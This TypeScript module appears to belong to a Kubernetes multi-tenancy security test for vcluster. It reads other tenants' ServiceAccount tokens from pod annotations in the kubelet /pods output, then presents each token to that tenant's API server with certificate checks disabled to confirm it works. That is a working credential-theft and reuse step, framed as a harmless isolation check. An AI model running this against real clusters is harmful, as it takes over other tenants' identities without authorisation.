import { Agent, request } from 'undici'
import { readAll } from '../../core/index.ts'
import type { ForeignPod } from './ground-truth.ts'

/**
 * The heaviest price of a host credential with nodes/proxy: the kubelet's `/pods` carries other tenants'
 * ServiceAccount tokens in the annotations that vcluster's syncer writes. This tries one, harmlessly: it asks the other
 * tenant's API server who the token belongs to.
 */

interface HostPod {
  metadata: { namespace: string; name: string; annotations?: Record<string, string> }
  spec: { containers: { env?: { name: string; value?: string }[] }[] }
}

const TOKEN_ANNOTATION = 'vcluster.loft.sh/token-'

/** One sentence per tenant whose token was read and accepted by that tenant's own API server. */
export async function useForeignToken(
  podList: string,
  foreign: readonly ForeignPod[],
): Promise<string[]> {
  const done = new Set<string>()
  const reached: string[] = []
  for (const pod of itemsOf(podList)) {
    const { namespace, name, annotations = {} } = pod.metadata
    const tenant = foreign.find((other) => other.pod === `${namespace}/${name}`)?.tenant
    if (tenant === undefined || tenant === null || done.has(tenant)) continue
    const token = Object.entries(annotations).find(([key]) => key.startsWith(TOKEN_ANNOTATION))?.[1]
    const user = token === undefined ? undefined : await whoIs(token, apiServerOf(pod))
    if (user === undefined) continue
    done.add(tenant)
    reached.push(
      `read ${tenant}’s ServiceAccount token of ${accountOf(user)} out of /pods and use it`,
    )
  }
  return reached
}

const accountOf = (user: string): string => user.replace(/^system:serviceaccount:([^:]+):/, '$1/')

function itemsOf(podList: string): HostPod[] {
  try {
    return (JSON.parse(podList) as { items: HostPod[] }).items
  } catch {
    return []
  }
}

/** The address is in the pod as well: the syncer points its environment at the virtual API server. */
function apiServerOf(pod: HostPod): string {
  const env = pod.spec.containers.flatMap((container) => container.env ?? [])
  const valueOf = (name: string): string | undefined =>
    env.find((variable) => variable.name === name)?.value
  return `https://${valueOf('KUBERNETES_SERVICE_HOST') ?? ''}:${valueOf('KUBERNETES_SERVICE_PORT') ?? '443'}`
}

async function whoIs(token: string, server: string): Promise<string | undefined> {
  // A thief has no reason to verify the certificate.
  const dispatcher = new Agent({ connect: { rejectUnauthorized: false } })
  try {
    const answer = await request(`${server}/apis/authentication.k8s.io/v1/selfsubjectreviews`, {
      dispatcher,
      method: 'POST',
      headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
      body: JSON.stringify({ apiVersion: 'authentication.k8s.io/v1', kind: 'SelfSubjectReview' }),
      signal: AbortSignal.timeout(5_000),
    })
    const text = (await readAll(answer.body, 1024 * 1024)).toString('utf8')
    if (answer.statusCode >= 300) return undefined
    const review = JSON.parse(text) as { status?: { userInfo?: { username?: string } } }
    return review.status?.userInfo?.username
  } catch {
    return undefined
  } finally {
    await dispatcher.close()
  }
}
